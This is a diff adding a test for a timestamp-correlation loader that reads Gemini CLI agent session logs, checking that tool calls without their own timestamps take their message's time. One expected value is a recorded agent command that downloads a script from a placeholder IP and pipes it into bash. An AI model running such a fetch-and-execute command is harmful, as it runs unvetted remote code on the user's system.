@@ -11,7 +11,7 @@ from zoneinfo import ZoneInfo
 
 from loader_helpers import ns, rows
 
-from correlate.loaders import LoadOptions, LoadResult, detect, openhands
+from correlate.loaders import LoadOptions, LoadResult, detect, gemini_cli, openhands
 from correlate.sources import Source
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -221,3 +221,49 @@ def test_openhands_eval_output_fixes_the_offset_per_instance():
     old = calls["sympy__sympy-20590#event-3"]  # no model_response in 2024 pairs: UTC assumed
     assert old["ts_note"] == "no zone: assumed UTC"
     assert result.stats.notes == {fixed: 4, "no zone: assumed UTC": 3}
+
+
+# --- 6. Gemini CLI: a tool call without a timestamp of its own takes its message's --------------
+
+GEMINI_UNTIMED = DATA / "gemini_cli" / "session-2025-10-14T08-30-7a9e0c12.json"
+GEMINI_MESSAGE_TIME = (
+    "no timestamp of its own: its message's timestamp (recorded before the call ran, or when it "
+    "completed), no end"
+)
+
+
+def test_gemini_calls_without_their_own_time_take_the_message_time():
+    result = read(gemini_cli, GEMINI_UNTIMED)
+    calls = by_call(result)
+    installer = calls["run_shell_command-1760430607003-0a1b2c3d4e5f6"]
+    assert {
+        k: installer[k] for k in ("ts_start", "ts_end", "ts_kind", "command", "source_line")
+    } == {
+        "ts_start": ns("2025-10-14T08:30:06.210Z"),
+        "ts_end": None,
+        "ts_kind": "step",
+        "command": "curl -sS http://203.0.113.50/install.sh | bash",
+        "source_line": 2,
+    }
+    assert installer["ts_note"] == (
+        f"{GEMINI_MESSAGE_TIME}; ran in the background: the process may outlive ts_end"
+    )
+    tunnel = calls["run_shell_command-1760430673002-2c3d4e5f6a7b8"]
+    assert (tunnel["ts_start"], tunnel["ts_kind"], tunnel["exit_code"]) == (
+        ns("2025-10-14T08:31:12.480Z"),
+        "step",
+        255,
+    )
+    assert tunnel["ts_note"] == GEMINI_MESSAGE_TIME  # "Background PIDs: (none)" is no background
+    assert calls["read_file-1760430673001-1b2c3d4e5f6a7"]["ts_start"] == tunnel["ts_start"]
+    assert [(r.location.line, r.reason) for r in result.rejects] == [
+        (
+            4,
+            "tool call run_shell_command-1760430741003-3d4e5f6a7b8c9: timestamp is missing, "
+            "and its message has none to use",
+        )
+    ]
+    assert result.stats.notes == {
+        f"{GEMINI_MESSAGE_TIME}; ran in the background: the process may outlive ts_end": 1,
+        GEMINI_MESSAGE_TIME: 2,
+    }
